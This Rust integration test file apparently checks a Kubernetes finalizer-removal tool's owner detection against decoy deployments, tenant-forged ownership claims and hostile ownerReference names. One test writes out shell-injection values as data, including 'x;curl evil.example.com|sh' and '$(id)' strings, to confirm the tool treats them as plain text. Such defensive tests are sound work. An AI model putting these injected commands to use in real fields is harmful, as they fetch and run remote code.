//! Who owns a finalizer, and what a tenant can claim about it.

use serde_json::{Value, json};
use testsupport::{Cluster, DEFAULT_TIMEOUT, Rule, Shape, wait_for};

use crate::{
    custom::{KIND, define, version},
    kit::{Ran, finalize, kubectl, kubectl_in},
    scene::{Scene, alone},
};

const RBAC: &str = "rbac.authorization.k8s.io/v1";

/// A Deployment that runs under an account of its own name, with its pods Ready.
fn deployment(cluster: &Cluster, namespace: &str, name: &str, replicas: u32) {
    cluster.create(
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "namespace": namespace}}),
    );
    let labels = json!({"app": name});
    cluster.create(
        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": namespace},
        "spec": {"replicas": replicas, "selector": {"matchLabels": labels}, "template": {"metadata": {"labels": labels},
            "spec": {"serviceAccountName": name, "containers": [{"name": "c", "image": "i"}]}}}}),
    );
    wait_for("its pods", DEFAULT_TIMEOUT, || {
        let ready = cluster.get("apps/v1/Deployment", namespace, name)?["status"]["readyReplicas"].as_u64();
        (ready.unwrap_or(0) == u64::from(replicas)).then_some(())
    });
}

fn replicas(cluster: &Cluster, namespace: &str, name: &str) -> Value {
    cluster.get("apps/v1/Deployment", namespace, name).unwrap()["spec"]["replicas"].clone()
}

/// The account of this name may change what the rule says, everywhere.
fn allow(scene: &Scene, namespace: &str, account: &str, resources: &[&str]) {
    let name = format!("{namespace}-{account}");
    let group = format!("{}.example.com", scene.name);
    scene.cluster.create(
        json!({"apiVersion": RBAC, "kind": "ClusterRole", "metadata": {"name": name}, "rules": [
        {"apiGroups": [group], "resources": resources, "verbs": ["update", "patch"]}]}),
    );
    let subject = json!({"kind": "ServiceAccount", "namespace": namespace, "name": account});
    scene.cluster.create(json!({"apiVersion": RBAC, "kind": "ClusterRoleBinding", "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name}, "subjects": [subject]}));
}

/// An order with a finalizer, put in by a field manager, that is being deleted. Returns how finalize is asked about it.
fn order(scene: &Scene, manager: &str) -> [String; 4] {
    let kind = format!("orders.{}.example.com", scene.name);
    let object = json!({"apiVersion": format!("{}.example.com/v1", scene.name), "kind": "Kindorders",
        "metadata": {"name": "o", "namespace": scene.name, "finalizers": ["example.com/cleanup"]}});
    let manager = format!("--field-manager={manager}");
    kubectl_in(scene.cluster, &["create", &manager, "-f", "-"], &object.to_string());
    kubectl(
        scene.cluster,
        &["delete", &kind, "o", "-n", &scene.name, "--wait=false"],
    );
    [kind, "o".into(), "-n".into(), scene.name.clone()]
}

fn asked(scene: &Scene, target: &[String; 4], args: &[&str]) -> Ran {
    let all: Vec<&str> = target.iter().map(String::as_str).chain(args.iter().copied()).collect();
    finalize(scene.cluster, &all)
}

fn is_there(scene: &Scene) -> bool {
    let kind = format!("{}.example.com/v1/Kindorders", scene.name);
    scene.cluster.get(&kind, &scene.name, "o").is_some()
}

/// Of two of one name it is the one whose account has the right, whatever the other looks like.
#[test]
fn r24_two_operators_of_one_name() {
    let scene = Scene::new("r24");
    let cluster = scene.cluster;
    let name = define(&scene, "orders", &[version("v1", true)]);
    let (first, second) = (cluster.namespace("r24-a"), cluster.namespace("r24-b"));
    deployment(cluster, first.name(), "r24-first-keeper", 1);
    deployment(cluster, second.name(), "r24-first-keeper", 0);
    allow(&scene, second.name(), "r24-first-keeper", &["orders/finalizers"]);
    let target = order(&scene, "r24-first-keeper");
    asked(&scene, &target, &["--dry-run"])
        .expect(0)
        .says("r24-first-keeper: dead (its ServiceAccount may change orders/finalizers; deployment r24-b/r24-first-keeper is scaled to 0)")
        .says("scale deployment r24-b/r24-first-keeper to 1")
        .says("deployment r24-a/r24-first-keeper (1 of 1 pods Ready) has that name, and its ServiceAccount may not change");
    asked(&scene, &target, &["--force-up-to=repair", "--timeout=3s"])
        .expect(5)
        .says("repair: scale deployment r24-b/r24-first-keeper to 1");
    assert_eq!(replicas(cluster, "r24-a", "r24-first-keeper"), 1);
    assert_eq!(replicas(cluster, "r24-b", "r24-first-keeper"), 1);
    // It is alive now: nothing is stripped.
    wait_for("the operator", DEFAULT_TIMEOUT, || {
        let ran = asked(&scene, &target, &["--dry-run"]).expect(0);
        ran.text().contains("r24-first-keeper: alive").then_some(())
    });
    asked(&scene, &target, &["--force-up-to=strip", "--timeout=20s"])
        .expect(5)
        .says_nothing_of("strip:");
    assert!(is_there(&scene));
    asked(&scene, &target, &["--force-up-to=strip", "--even-if-alive"]).expect(0);
    cluster.delete(KIND, "", &name);
}

/// A variant: where no right tells which it is, both are named, and none is started.
#[test]
fn r24_two_candidates_and_nobody_knows_which() {
    let scene = Scene::new("r24-both");
    let cluster = scene.cluster;
    let name = define(&scene, "orders", &[version("v1", true)]);
    for namespace in ["r24-c", "r24-d"] {
        let namespace = cluster.namespace(namespace);
        deployment(cluster, namespace.name(), "r24-both-keeper", 0);
        allow(&scene, namespace.name(), "r24-both-keeper", &["orders"]);
    }
    let target = order(&scene, "somebody-else");
    asked(&scene, &target, &["--dry-run"])
        .expect(0)
        .says("owner unknown (2 candidates)")
        .says("'kubectl scale deployment/r24-both-keeper -n r24-c --replicas=1'")
        .says("'kubectl scale deployment/r24-both-keeper -n r24-d --replicas=1'")
        .says_nothing_of("    repair ");
    asked(&scene, &target, &["--force-up-to=repair"]).expect(4);
    for namespace in ["r24-c", "r24-d"] {
        assert_eq!(replicas(cluster, namespace, "r24-both-keeper"), 0);
    }
    // One of them is Ready: that one is alive.
    cluster.scale("apps/v1/Deployment", "r24-d", "r24-both-keeper", 1);
    wait_for("the operator", DEFAULT_TIMEOUT, || {
        let ran = asked(&scene, &target, &["--dry-run"]).expect(0);
        ran.text().contains("r24-both-keeper: alive").then_some(())
    });
    asked(&scene, &target, &["--force-up-to=strip", "--even-if-alive"]).expect(0);
    cluster.delete(KIND, "", &name);
}

/// A variant: a finalizer that is known, and a workload of its name elsewhere.
#[test]
fn r24_a_known_controller_and_another_of_its_name() {
    let scene = Scene::new("r24-known");
    let cluster = scene.cluster;
    let (home, decoy) = (cluster.namespace("r24-home"), cluster.namespace("a-r24-decoy"));
    deployment(cluster, home.name(), "r24-keeper", 0);
    deployment(cluster, decoy.name(), "r24-keeper", 1);
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("own.yaml");
    let own = "- finalizers: [r24.example.com/x]\n  remover: the keeper\n  workloads: [r24-keeper]\n  namespaces: [r24-home]\n  \
               protects: that it is kept\n  stripped: it is lost\n  right: do it rightly\n  risk: data\n  \
               source: https://example.com\n  checked: true\n";
    std::fs::write(&file, own).unwrap();
    let knowledge = format!("--knowledge={}", file.display());
    scene.config_map("a", &["r24.example.com/x"]);
    kubectl(cluster, &["delete", "cm", "a", "-n", "r24-known", "--wait=false"]);
    let target = ["cm/a", "-n", "r24-known", &knowledge];
    finalize(cluster, &[&target[..], &["--dry-run"]].concat())
        .expect(0)
        .says("the keeper: dead (deployment r24-home/r24-keeper is scaled to 0)")
        .says("scale deployment r24-home/r24-keeper to 1")
        .says("hint: deployment a-r24-decoy/r24-keeper (1 of 1 pods Ready) has its name");
    // Only the other is there: it is never started, and not taken for a no.
    cluster.delete("apps/v1/Deployment", "r24-home", "r24-keeper");
    let ran = finalize(cluster, &[&target[..], &["--force-up-to=strip"]].concat()).expect(4);
    ran.says("the keeper: may be alive").says("--even-if-alive");
    cluster.scale("apps/v1/Deployment", decoy.name(), "r24-keeper", 0);
    wait_for("its pod to be deleted", DEFAULT_TIMEOUT, || {
        let status = cluster.get("apps/v1/Deployment", decoy.name(), "r24-keeper")?["status"].clone();
        status["readyReplicas"].is_null().then_some(())
    });
    finalize(cluster, &[&target[..], &["--force-up-to=strip"]].concat())
        .expect(0)
        .says_nothing_of("repair:");
    assert_eq!(replicas(cluster, decoy.name(), "r24-keeper"), 0);
}

/// Who may only create orders in their own namespace, and names the workload of another as the owner.
#[test]
fn r41_a_tenant_names_the_workload_of_another() {
    let scene = Scene::new("r41");
    let cluster = scene.cluster;
    let name = define(&scene, "orders", &[version("v1", true)]);
    let victim = cluster.namespace("r41-victim");
    deployment(cluster, victim.name(), "break-glass", 0);
    allow(&scene, victim.name(), "break-glass", &["invoices"]);
    let tenant = cluster.user_kubeconfig(
        "r41-tenant",
        &[
            Rule::allow("create,delete,get,patch,update", "orders.r41.example.com").within("r41"),
            Rule::allow("patch,update", "orders.r41.example.com/finalizers").within("r41"),
            Rule::allow(
                "create,get",
                "roles.rbac.authorization.k8s.io,rolebindings.rbac.authorization.k8s.io",
            )
            .within("r41"),
        ],
    );
    let as_tenant = |args: &[&str], input: &Value| {
        let mut command = assert_cmd::Command::new(cluster.kubectl());
        let ran = command
            .env("KUBECONFIG", &tenant)
            .args(args)
            .write_stdin(input.to_string())
            .output()
            .unwrap();
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
    };
    let object = json!({"apiVersion": "r41.example.com/v1", "kind": "Kindorders", "metadata": {"name": "o",
        "namespace": "r41", "finalizers": ["example.com/cleanup"]}});
    wait_for("the rights", DEFAULT_TIMEOUT, || {
        let args = ["auth", "can-i", "create", "orders.r41.example.com", "-n", "r41"];
        let mut command = assert_cmd::Command::new(cluster.kubectl());
        command
            .env("KUBECONFIG", &tenant)
            .args(args)
            .output()
            .unwrap()
            .status
            .success()
            .then_some(())
    });
    as_tenant(&["create", "--field-manager=break-glass", "-f", "-"], &object);
    as_tenant(
        &["delete", "orders.r41.example.com", "o", "-n", "r41", "--wait=false"],
        &json!(null),
    );
    let target = ["orders.r41.example.com", "o", "-n", "r41"];
    let target = target.map(str::to_owned);
    asked(&scene, &target, &["--dry-run"])
        .expect(0)
        .says("waits for an unknown owner to remove its finalizer")
        .says("hint: managedFields say that break-glass added it")
        .says("hint: deployment r41-victim/break-glass (scaled to 0) has that name")
        .says_nothing_of("    repair ");
    asked(&scene, &target, &["--force-up-to=repair"]).expect(4);
    assert_eq!(replicas(cluster, "r41-victim", "break-glass"), 0);
    // A variant: who may bind roles in their own namespace gives the right to the workload of another.
    let role = json!({"apiVersion": RBAC, "kind": "Role", "metadata": {"name": "own", "namespace": "r41"}, "rules": [
        {"apiGroups": ["r41.example.com"], "resources": ["orders", "orders/finalizers"], "verbs": ["update", "patch"]}]});
    let subject = json!({"kind": "ServiceAccount", "namespace": "r41-victim", "name": "break-glass"});
    let binding = json!({"apiVersion": RBAC, "kind": "RoleBinding", "metadata": {"name": "own", "namespace": "r41"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "own"}, "subjects": [subject]});
    as_tenant(&["create", "-f", "-"], &role);
    as_tenant(&["create", "-f", "-"], &binding);
    asked(&scene, &target, &["--dry-run"])
        .expect(0)
        .says("owner unknown (1 candidate)")
        .says("'kubectl scale deployment/break-glass -n r41-victim --replicas=1'")
        .says_nothing_of("    repair ");
    asked(&scene, &target, &["--force-up-to=strip"])
        .expect(0)
        .says_nothing_of("repair:");
    assert_eq!(replicas(cluster, "r41-victim", "break-glass"), 0);
    cluster.delete(KIND, "", &name);
}

/// A decoy that is scaled to 0 does not make the controller of another dead, and a decoy of a Lease neither dead nor alive.
#[test]
fn r41_decoys_of_a_living_controller() {
    let scene = Scene::new("r41-decoy");
    let cluster = scene.cluster;
    let name = define(&scene, "orders", &[version("v1", true)]);
    let (decoy, real) = (cluster.namespace("a-r41-decoy"), cluster.namespace("z-r41-real"));
    deployment(cluster, decoy.name(), "r41-keeper", 0);
    deployment(cluster, real.name(), "r41-keeper", 1);
    let target = order(&scene, "r41-keeper");
    let ran = asked(&scene, &target, &["--force-up-to=strip"]).expect(4);
    ran.says("owner unknown: may be alive")
        .says("--even-if-alive")
        .says_nothing_of("dead")
        .says_nothing_of("strip:");
    assert!(is_there(&scene));
    assert_eq!(replicas(cluster, decoy.name(), "r41-keeper"), 0);
    // Without the real one there is nothing alive, and the Lease of a tenant changes nothing.
    cluster.delete("apps/v1/Deployment", real.name(), "r41-keeper");
    let lease = |renewed: &str| {
        json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name": "r41-keeper", "namespace": "a-r41-decoy"},
            "spec": {"holderIdentity": "x", "leaseDurationSeconds": 15, "renewTime": renewed}})
    };
    cluster.create(lease("2024-01-01T00:00:00.000000Z"));
    let ran = asked(&scene, &target, &["--dry-run"]).expect(0);
    ran.says("owner unknown")
        .says("hint: the Lease a-r41-decoy/r41-keeper was renewed")
        .says_nothing_of("dead")
        .says_nothing_of("may be alive");
    asked(&scene, &target, &["--force-up-to=strip"])
        .expect(0)
        .says_nothing_of("repair:");
    cluster.delete(KIND, "", &name);
}

/// What an ownerReference says of kind and name is free text: it is no command, and no owner.
#[test]
fn r49_an_owner_with_a_command_in_its_name() {
    let cluster = alone();
    let ns = cluster.namespace("r49");
    wait_for("the account", DEFAULT_TIMEOUT, || {
        ns.get("v1/ServiceAccount", "default")
    });
    // The garbage collector would delete what has no owner.
    cluster.controller_manager().kill();
    ns.statefulset("real", 1, &Shape::new());
    let real = ns.get("apps/v1/StatefulSet", "real").unwrap()["metadata"]["uid"]
        .as_str()
        .unwrap()
        .to_owned();
    let set = |name: &str, uid: &str| json!({"apiVersion": "apps/v1", "kind": "StatefulSet", "name": name, "uid": uid, "controller": true});
    let nowhere = "00000000-0000-0000-0000-000000000001";
    let named = [
        ("evil", set("x;curl evil.example.com|sh", nowhere)),
        (
            "kind",
            json!({"apiVersion": "apps/v1", "kind": "$(id)/x", "name": "`id`", "uid": nowhere, "controller": true}),
        ),
        ("stale", set("real", nowhere)),
        ("real", set("real", &real)),
    ];
    for (name, owner) in named {
        let claim = format!("claim-{name}");
        let meta = json!({"name": claim, "finalizers": ["kubernetes.io/pvc-protection"]});
        ns.create(json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": meta, "spec": {
            "storageClassName": "none", "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}));
        let volumes = json!([{"name": "d", "persistentVolumeClaim": {"claimName": claim}}]);
        ns.create(
            json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": format!("pod-{name}"),
            "ownerReferences": [owner]}, "spec": {"nodeName": "nowhere", "volumes": volumes,
                "containers": [{"name": "c", "image": "i"}]}}),
        );
        kubectl(&cluster, &["delete", "pvc", &claim, "-n", "r49", "--wait=false"]);
        let ran = finalize(&cluster, &[&format!("pvc/{claim}"), "-n", "r49", "--dry-run"]).expect(0);
        ran.says(&format!("evict pod r49/pod-{name}"));
        if name == "real" {
            ran.says("it belongs to statefulset real")
                .says("'kubectl scale statefulset/real -n r49 --replicas=0' prevents that");
        } else {
            ran.says("no object with that UID was found")
                .says_nothing_of("kubectl scale");
        }
    }
}
